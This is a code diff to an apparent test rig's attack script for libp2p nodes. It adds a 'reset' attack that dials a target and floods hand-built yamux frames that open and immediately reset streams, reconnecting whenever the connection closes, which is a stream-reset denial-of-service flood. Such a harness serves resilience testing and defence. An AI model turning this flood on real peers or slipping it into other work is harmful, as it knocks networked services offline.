@@ -6,7 +6,14 @@
 import { randomBytes } from 'node:crypto'
 import { connect, type Socket } from 'node:net'
 import { parseArgs } from 'node:util'
+import { yamux } from '@chainsafe/libp2p-yamux'
+import { identify } from '@libp2p/identify'
+import type { MessageStream } from '@libp2p/interface'
+import { ping } from '@libp2p/ping'
+import { tcp } from '@libp2p/tcp'
+import { tls } from '@libp2p/tls'
 import { multiaddr } from '@multiformats/multiaddr'
+import { createLibp2p, type Libp2p } from 'libp2p'
 import { ATTACKER_ADDRESS } from './rig.ts'
 
 const { positionals, values } = parseArgs({
@@ -66,7 +73,52 @@ async function noise(): Promise<void> {
   await Promise.all(Array.from({ length: count }, again))
 }
 
-const ATTACKS: Record<string, () => Promise<void>> = { silent, dripping, noise }
+/** A stock libp2p node that dials from the attacker's address. */
+async function stockNode(): Promise<Libp2p> {
+  return createLibp2p({
+    transports: [tcp({ dialOpts: { localAddress: from } as object })],
+    connectionEncrypters: [tls()],
+    streamMuxers: [yamux()],
+    connectionGater: { denyDialMultiaddr: () => false },
+    services: { identify: identify(), ping: ping() }
+  })
+}
+
+function drained(stream: MessageStream): Promise<void> {
+  return new Promise(resolve => {
+    stream.addEventListener('drain', () => resolve(), { once: true })
+    stream.addEventListener('close', () => resolve(), { once: true })
+  })
+}
+
+/** Streams that are opened and reset, as fast as one connection takes them; another connection when it is closed. */
+async function reset(): Promise<void> {
+  const node = await stockNode()
+  const flood = async (): Promise<void> => {
+    const connection = await node.dial(multiaddr(target), { force: true })
+    const { maConn } = (connection as unknown as { muxer: { maConn: MessageStream } }).muxer
+    let id = 1001
+    while (maConn.status === 'open') {
+      const frames = new Uint8Array(12 * 2000)
+      const view = new DataView(frames.buffer)
+      for (let i = 0; i < 2000; i++, id += 2) {
+        view.setUint8(i * 12 + 1, 1)
+        view.setUint16(i * 12 + 2, i % 2 === 0 ? 1 : 8)
+        if (i % 2 === 1) id -= 2
+        view.setUint32(i * 12 + 4, id)
+      }
+      if (!maConn.send(frames)) await drained(maConn)
+      else await new Promise(setImmediate)
+    }
+  }
+  const again = (): void =>
+    void flood()
+      .catch(() => {})
+      .finally(() => setTimeout(again, 20))
+  again()
+}
+
+const ATTACKS: Record<string, () => Promise<void>> = { silent, dripping, noise, reset }
 const attack = ATTACKS[positionals[0] ?? '']
 if (attack === undefined) throw new RangeError(`no attack ${positionals[0]}`)
 await attack()
